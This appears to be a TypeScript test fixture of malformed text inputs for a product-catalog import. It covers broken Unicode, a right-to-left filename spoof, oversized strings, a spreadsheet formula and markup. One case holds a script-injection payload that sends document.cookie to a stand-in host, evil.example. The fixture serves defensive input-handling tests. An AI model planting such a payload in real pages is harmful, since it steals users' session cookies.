import { bendList, bentOf } from "./bends.ts";
import { kept, type MalformedClass, type Operation } from "./class.ts";
import { first } from "./json-object.ts";

/** Sets a text for people: a name, or, where there is none, the name of a warehouse or of a price type. */
function name(text: string): MalformedClass["bend"] {
  return bendList((records, { operation }) => {
    const child = bentOf(operation, records);
    if (operation === "categories") child.CategoryName = text;
    else if (operation === "brands" || operation === "products") child.Name = text;
    // The price changes too: when the price is the same, another type name is not stored.
    else if (operation === "prices") Object.assign(first(child.Prices), { PriceTypeDesc: text, Price: 11.25 });
    // A warehouse gets the name in the last record.
    else for (const record of records) first(record.WarehousesQuantities).Name = text;
    return records;
  });
}

/** What is stored of that text, for each operation. */
function stored(text: string): MalformedClass["ends"] {
  const named = kept({ name: text });
  const warehouse = kept({ warehouse: text });
  const price = kept({ variant: { prices: [{ type: text }, { type: "MSRP" }] } });
  const ends: Partial<Record<Operation, ReturnType<typeof kept>>> = {
    brands: named,
    categories: named,
    products: named,
  };
  return { ...ends, inventory: warehouse, stock: warehouse, prices: price };
}

const megabyte = 1024 * 1024;
const script = "<script>fetch('//evil.example/'+document.cookie)</script>";

export const texts: MalformedClass[] = [
  { name: "a NUL in a text", bend: name("Ty\0re"), ends: stored("Tyre") },
  { name: "half a character", bend: name("Ty\ud800re"), ends: stored("Ty\ufffdre") },
  { name: "the other half of a character", bend: name("Ty\udc00re"), ends: stored("Ty\ufffdre") },
  { name: "half a character at the end", bend: name("Tyre\ud83d"), ends: stored("Tyre\ufffd") },
  {
    name: "a text that is cut within an emoji",
    bend: name(`${"x".repeat(999)}🚲`),
    ends: stored("x".repeat(999)),
  },
  { name: "a character that Unicode has not", bend: name("Ty\ufffere"), ends: stored("Ty\ufffere") },
  { name: "letters from right to left", bend: name("صمام \u202Egnp.exe"), ends: stored("صمام \u202Egnp.exe") },
  { name: "characters without width", bend: name("Ty\u200bre\u2060"), ends: stored("Ty\u200bre\u2060") },
  { name: "a text of 1 MB", bend: name("x".repeat(megabyte)), ends: stored("x".repeat(1000)) },
  { name: "markup in a name", bend: name("<b>Tyre</b> & tube"), ends: stored("<b>Tyre</b> & tube") },
  { name: "a script in a name", bend: name(script), ends: stored(script) },
  {
    name: "an emoji and accents beyond the letters",
    bend: name("Pneu 🚲 e\u0301te\u0301"),
    ends: stored("Pneu 🚲 e\u0301te\u0301"),
  },
  { name: "blanks around a text", bend: name(" \u00a0Tyre\n"), ends: stored("Tyre") },
  { name: "an empty text", bend: name(""), ends: stored("") },
  { name: "a formula", bend: name("=HYPERLINK(1)"), ends: stored("=HYPERLINK(1)") },
];
